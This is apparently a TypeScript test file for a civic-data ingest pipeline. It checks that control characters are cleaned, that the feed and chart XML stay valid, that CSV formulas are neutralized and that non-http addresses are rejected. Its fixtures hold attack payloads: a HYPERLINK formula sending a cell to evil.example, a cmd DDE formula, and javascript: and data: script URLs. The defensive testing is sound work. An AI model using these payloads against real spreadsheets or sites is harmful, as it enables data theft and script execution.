/**
 * Hostile text from sources (tests/fixtures/hostile/): control characters in a name, spreadsheet
 * formulas in text cells, non-http addresses. The ingest publishes clean text (stage.ts for what
 * sources read in JavaScript, the engine's SQL pass for what DuckDB reads itself); the Atom feed and
 * the chart images are valid XML whatever text they are given; every CSV neutralizes formulas
 * (OWASP) while the Parquet keeps the value as published; a javascript: address fails the ingest.
 */
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import Papa from 'papaparse';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ingest, openDuck, rows } from '../../../scripts/ingest/engine';
import { IngestError } from '../../../scripts/ingest/lib/errors';
import { readCsv } from '../../../scripts/ingest/lib/read-csv';
import { stageRows } from '../../../scripts/ingest/lib/stage';
import { deriveCsvs, type Resource } from '../../../scripts/build-data';
import { atomFeed } from '../../../src/lib/changes/atom';
import type { Change } from '../../../src/lib/changes/types';
import { chartSvg, rasterise } from '../../../src/lib/charts/image';
import { toCsv } from '../../../src/lib/charts/csv';
import { cleanText, cleanTextSql, dirtyTextSql, hasControl } from '../../../src/lib/text/safe';
import { loadChart } from '$lib/server/charts';

const FIXTURE = resolve('tests/fixtures/hostile');
const ONLY = ['congress-legislators'];
const quiet = () => {};
let root: string;
let out: string; // the fixture, ingested once
let duck: Awaited<ReturnType<typeof openDuck>>;
const one = async (sql: string) => (await rows(duck.con, sql))[0]!;
const pq = (dataset: string, dir = out) => `read_parquet('${join(dir, `${dataset}.parquet`)}')`;

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'ingest-hostile-'));
  out = join(root, 'data');
  await ingest({ sources: FIXTURE, out, only: ONLY, log: quiet });
  duck = await openDuck();
});
afterAll(() => {
  duck?.con.closeSync();
  duck?.instance.closeSync();
  if (root) rmSync(root, { recursive: true, force: true });
});

/**
 * A strict XML 1.0 check: every character is one the Char production allows (§2.2: tab, LF, CR,
 * U+0020–U+D7FF, U+E000–U+FFFD, U+10000–U+10FFFF), so is every character reference (&#11; is as
 * invalid as U+000B itself), and fast-xml-parser's validator accepts the structure. The validator
 * alone is not strict: it accepts a raw U+000B, which browsers' and feed readers' parsers reject.
 */
function strictXml(xml: string): void {
  const bad = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u.exec(xml);
  if (bad) throw new Error(`character U+${bad[0].codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} is not allowed in XML 1.0, at offset ${bad.index}`);
  for (const m of xml.matchAll(/&#(x[0-9a-fA-F]+|[0-9]+);/g)) {
    const cp = m[1]!.startsWith('x') ? parseInt(m[1]!.slice(1), 16) : Number(m[1]);
    if (/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u.test(String.fromCodePoint(cp))) throw new Error(`character reference ${m[0]} is not allowed in XML 1.0`);
  }
  const v = XMLValidator.validate(xml);
  if (v !== true) throw new Error(`not well-formed XML: ${JSON.stringify(v.err)}`);
}

/** Every control character cleanText removes, the spacing ones, XML's non-characters, a lone surrogate and a decomposed "é". */
const HOSTILE = ['A\u000bB', 'A\u000cB', 'A\u0085B', '\u001b[31mRED\u001b[0m', 'nul\u0000byte', 'del\u007f', 'c1\u0096', 'x\ufffey\uffff', 'lone\ud800', 'e\u0301t\u0301e\u0301', 'Hag\u0334t\u0331a', 'tab\tlf\ncr\r ok'];

describe('the checks themselves', () => {
  it('strictXml rejects what XML 1.0 forbids and fast-xml-parser lets through', () => {
    expect(XMLValidator.validate('<a>x\u000by</a>')).toBe(true);
    expect(() => strictXml('<a>x\u000by</a>')).toThrow(/U\+000B/);
    expect(() => strictXml('<a t="\u001b"/>')).toThrow(/U\+001B/);
    expect(() => strictXml('<a>&#11;</a>')).toThrow(/&#11;/);
    expect(() => strictXml('<a>\ud800</a>')).toThrow(/U\+D800/);
    expect(() => strictXml('<a>ok &amp; fine\t\n</a>')).not.toThrow();
  });

  it('the fixture holds the hostile text the tests expect', () => {
    const g = readCsv(join(FIXTURE, 'legislators/legislators-current.csv'), 'fixture');
    const col = (h: string) => g.rows[0]!.indexOf(h);
    const sanders = g.rows.find((r) => r[col('bioguide_id')] === 'S000033')!;
    expect(sanders[col('full_name')]).toBe('Bernard\u000bSanders\u001b');
    expect(g.rows.find((r) => r[col('bioguide_id')] === 'W000800')![col('address')]).toMatch(/^=HYPERLINK\(/);
    expect(g.rows.find((r) => r[col('bioguide_id')] === 'F000484')![col('contact_form')]).toMatch(/^hhttps:/);
  });
});

describe('text is clean once ingested', () => {
  it('a name with U+000B and U+001B in a source file is published clean (the vertical tab a space)', async () => {
    expect(await one(`SELECT name FROM ${pq('legislators')} WHERE bioguide_id = 'S000033'`)).toEqual({ name: 'Bernard Sanders' });
    // No published string of the run holds a character cleanText would remove.
    for (const d of ['legislators', 'legislator_offices']) {
      const got = await rows(duck.con, `SELECT * FROM ${pq(d)}`);
      for (const r of got) for (const v of Object.values(r)) if (typeof v === 'string') expect(hasControl(v), `${d}: ${JSON.stringify(v)}`).toBe(false);
    }
  });

  it('stageRows stores every string clean, before any dataset SQL (matching, checks) reads it', async () => {
    const { instance, con } = await openDuck();
    try {
      const n = await stageRows(con, 'stg_hostile', { name: 'VARCHAR', day: 'DATE', n: 'INTEGER' }, HOSTILE.map((name, i) => ({ name, day: `2024-01-0${(i % 9) + 1}`, n: i })));
      expect(n).toBe(HOSTILE.filter((h) => cleanText(h) !== h).length);
      const got = (await rows(con, 'SELECT name FROM stg_hostile ORDER BY n')).map((r) => r.name);
      expect(got).toEqual(HOSTILE.map(cleanText));
      expect(got.slice(0, 4)).toEqual(['A B', 'A B', 'A B', '[31mRED[0m']);
    } finally {
      con.closeSync();
      instance.closeSync();
    }
  });

  it('text DuckDB reads itself (ddp-daily\'s Parquet) is cleaned by the engine with the same rule', async () => {
    const src = join(root, 'ddp-sources');
    const dir = join(src, 'ice/ddp-facilities-daily-population');
    mkdirSync(dir, { recursive: true });
    const name = `ADELANTO\u000bICE\u001b[0m PROCESSING CENTER`;
    await duck.con.run(`COPY (SELECT * FROM (VALUES
        ('ADLNTCA', DATE '2024-01-01', 10, 9, 8, 2, 3, 0, '${name}'),
        ('ADLNTCA', DATE '2024-01-02', 11, 10, 9, 2, 3, 0, '${name}'),
        ('STWRTGA', DATE '2024-01-01', 5, 5, 5, 0, 1, 0, 'STEWART DETENTION CENTER'))
      AS t(detention_facility_code, date, n_detained, n_detained_at_midnight, n_detained_male, n_detained_female, n_detained_convicted_criminal, n_detained_possibly_under_18, detention_facility))
      TO '${join(dir, 'facilities-daily-population-latest.parquet')}' (FORMAT parquet)`);
    const lines: string[] = [];
    const ddpOut = join(root, 'ddp-out');
    await ingest({ sources: src, out: ddpOut, only: ['ddp-daily'], log: (l) => lines.push(l) });
    const got = await rows(duck.con, `SELECT DISTINCT detention_facility_code AS code, facility_name FROM ${pq('ice_facility_daily', ddpOut)} ORDER BY 1`);
    expect(got).toEqual([
      { code: 'ADLNTCA', facility_name: 'ADELANTO ICE[0m PROCESSING CENTER' },
      { code: 'STWRTGA', facility_name: 'STEWART DETENTION CENTER' },
    ]);
    expect(lines).toContain('dataset ice_facility_daily: 2 rows held text with control characters or not NFC; cleaned');
  });

  it('cleanTextSql gives the text cleanText gives, and dirtyTextSql is true exactly where it changes something', async () => {
    // DuckDB strings are UTF-8: a lone surrogate cannot reach SQL, so it is left to the JavaScript side.
    const cases = [...HOSTILE.filter((s) => !/[\ud800-\udfff]/.test(s)), 'plain ASCII', 'quote " and \\ backslash', 'café', ''];
    for (let c = 0; c < 0xa0; c++) cases.push(`a${String.fromCharCode(c)}b`);
    // Each code point as chr(n): DuckDB's SQL parser ends a literal at a NUL.
    const lit = (s: string) => (s ? [...s].map((c) => `chr(${c.codePointAt(0)})`).join(' || ') : "''");
    for (const s of cases) {
      const r = await one(`SELECT ${cleanTextSql('v')} AS clean, ${dirtyTextSql('v')} AS dirty FROM (SELECT ${lit(s)} AS v)`);
      expect(r, JSON.stringify(s)).toEqual({ clean: cleanText(s), dirty: cleanText(s) !== s });
    }
  });
});

/** A change of the change log about a facility with a hostile name. */
const change = (name: string): Change => ({
  id: '2026-02-06/facility-dropped/x',
  release: '2026-02-06',
  previous: '2026-01-23',
  kind: 'facility-dropped',
  facility_id: 'x',
  name,
  state: 'TX',
  fiscal_year: 2026,
  before: 10,
  after: null,
  text: `${name} is no longer in ICE's list.`,
  sources: [],
});

describe('the Atom feed is valid XML whatever text it is given', () => {
  it('a change whose name holds U+000B, U+001B and every other forbidden character parses strictly, with the name cleaned', () => {
    const names = HOSTILE.map((s) => `FACILITY ${s} <b>&</b>`);
    const xml = atomFeed({
      site: 'https://example.org',
      base: '',
      self: '/changes.xml',
      page: '/changes/',
      title: 'What changed \u000b',
      updated: '2026-02-06',
      changes: names.map((n, i) => ({ ...change(n), id: `c${i}` })),
      source: { title: 'ICE \u001b statistics', path: 'https://www.ice.gov/detain/detention-management' },
    });
    strictXml(xml);
    const { feed } = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@', isArray: (n) => n === 'entry' }).parse(xml);
    // An XML parser reads a CR as a line feed (XML 1.0 §2.11).
    expect(feed.entry.map((e: { title: string }) => e.title)).toEqual(names.map((n) => `No longer reported: ${cleanText(n).replace(/\r\n?/g, '\n')} (TX)`));
    expect(feed.entry[0].title).toBe('No longer reported: FACILITY A B <b>&</b> (TX)');
  });
});

describe('chart images are valid XML and render whatever text they are given', () => {
  it('the SVG of a chart whose title, subtitle and source hold control characters parses strictly, and the PNG renders', async () => {
    const chart = await loadChart('ice-national-monthly', {});
    const hostile = { ...chart, title: `ICE\u000bdetention\u001b[0m ${HOSTILE.join(' ')}`, subtitle: `People\u0000 held\u000c`, sources: chart.sources.map((s) => ({ ...s, publisher: `${s.publisher}\u001b` })) };
    const svg = chartSvg(hostile, { address: 'https://example.org/charts/#chart-x\u000b' });
    strictXml(svg);
    expect(svg).toContain('ICE detention[0m');
    const png = await rasterise(svg);
    expect([...png.subarray(1, 4)]).toEqual([0x50, 0x4e, 0x47]);
  });

  it('the PNG renders an SVG made elsewhere that still holds a control character', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="675" viewBox="0 0 1200 675"><text x="10" y="40">A\u000bB\u001b</text></svg>';
    expect(() => strictXml(svg)).toThrow();
    expect([...(await rasterise(svg)).subarray(1, 4)]).toEqual([0x50, 0x4e, 0x47]);
  });
});

describe('CSV downloads neutralize spreadsheet formulas (OWASP), numbers untouched', () => {
  const FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', '\t=1+1', '\r=1+1', '=1+1\nsecond line'];

  it('chart and per-facility CSVs (toCsv): every formula-like text cell gets a leading apostrophe, numbers and booleans do not', () => {
    const rows = [...FORMULAS.map((t, i) => ({ text: t, n: -5 - i, ok: true })), { text: 'PLAIN, "quoted"', n: 3.5, ok: false }];
    const csv = toCsv(rows, [
      { field: 'text', label: 'Text', format: 'text' },
      { field: 'n', label: 'N', format: 'number' },
      { field: 'ok', label: 'OK', format: 'text' },
    ]);
    const back = Papa.parse<string[]>(csv, { newline: '\n' }).data;
    expect(back[0]).toEqual(['text', 'n', 'ok']);
    expect(back.slice(1).map((r) => r[0])).toEqual([...FORMULAS.map((t) => `'${t}`), 'PLAIN, "quoted"']);
    expect(back.slice(1).map((r) => r[1])).toEqual([...FORMULAS.map((_, i) => String(-5 - i)), '3.5']);
    expect(back.slice(1).map((r) => r[2])).toEqual([...FORMULAS.map(() => 'true'), 'false']);
  });

  it('dataset CSVs: the ingest and build-data write the same bytes (the hash holds), formulas neutralized, the Parquet as published', async () => {
    const pkg = JSON.parse(readFileSync(join(out, 'datapackage.json'), 'utf8')) as { resources: Resource[] };
    const served = join(root, 'static-data');
    mkdirSync(served);
    const { instance, con } = await openDuck();
    try {
      // Throws when a CSV's sha256 differs from the one the ingest recorded.
      await deriveCsvs(con, pkg.resources, out, served);
    } finally {
      con.closeSync();
      instance.closeSync();
    }
    const csv = (name: string) => Papa.parse<Record<string, string>>(readFileSync(join(served, `${name}.csv`), 'utf8'), { header: true, skipEmptyLines: true }).data;
    const members = csv('legislators');
    expect(members.find((r) => r.bioguide_id === 'W000800')!.address).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"115 Russell Senate Office Building")`);
    expect(members.find((r) => r.bioguide_id === 'S001225')!.name).toBe(`'@SUM(1+1)`);
    const offices = csv('legislator_offices');
    expect(offices.find((r) => r.office_id === 'F000484-deland')!.hours).toBe(`'-2+3`);
    expect(offices.find((r) => r.office_id === 'S001225-peoria')!.building).toBe(`'+cmd|' /C calc'!A0`);
    // Numbers are typed columns: a negative longitude is written as the number it is.
    expect(offices.find((r) => r.office_id === 'S000033-burlington')!.longitude).toBe('-73.21307019999999');
    // The Parquet keeps the text as published.
    expect(await one(`SELECT address FROM ${pq('legislators')} WHERE bioguide_id = 'W000800'`)).toEqual({ address: '=HYPERLINK("https://evil.example/?d="&A1,"115 Russell Senate Office Building")' });
  });
});

describe('addresses', () => {
  it('the known "hhttps" typo in F000484\'s contact form is corrected, so the real file ingests', async () => {
    expect(await one(`SELECT contact_form FROM ${pq('legislators')} WHERE bioguide_id = 'F000484'`)).toEqual({ contact_form: 'https://fine.house.gov/address_authentication?form=/contact/email-me' });
  });

  for (const [column, value] of [
    ['url', 'javascript:alert(document.cookie)'],
    ['contact_form', ' JavaScript:fetch("//evil.example")'],
    ['contact_form', 'data:text/html,<script>alert(1)</script>'],
  ] as const)
    it(`a ${column} of ${JSON.stringify(value)} fails the ingest naming its cell, and nothing is published`, async () => {
      const dir = mkdtempSync(join(root, 'url-'));
      const src = join(dir, 'sources');
      cpSync(FIXTURE, src, { recursive: true });
      const file = join(src, 'legislators/legislators-current.csv');
      const g = Papa.parse<string[]>(readFileSync(file, 'utf8'), { skipEmptyLines: true }).data;
      const row = g.findIndex((r) => r[g[0]!.indexOf('bioguide_id')] === 'W000800');
      g[row]![g[0]!.indexOf(column)] = value;
      writeFileSync(file, Papa.unparse(g, { newline: '\n' }) + '\n');
      const target = join(dir, 'out');
      cpSync(out, target, { recursive: true });
      const before = readFileSync(join(target, 'datapackage.json'), 'utf8');
      const e = await ingest({ sources: src, out: target, only: ONLY, log: quiet }).catch((x: unknown) => x);
      expect(e).toBeInstanceOf(IngestError);
      expect((e as IngestError).where).toEqual({ file: 'legislators/legislators-current.csv', row: row + 1, column, value: value.trim() });
      expect((e as IngestError).expected).toBe('expected an http:// or https:// address (anything else is never published as a link)');
      expect(readFileSync(join(target, 'datapackage.json'), 'utf8')).toBe(before);
      expect(readdirSync(dir).sort()).toEqual(['out', 'sources']);
    });
});
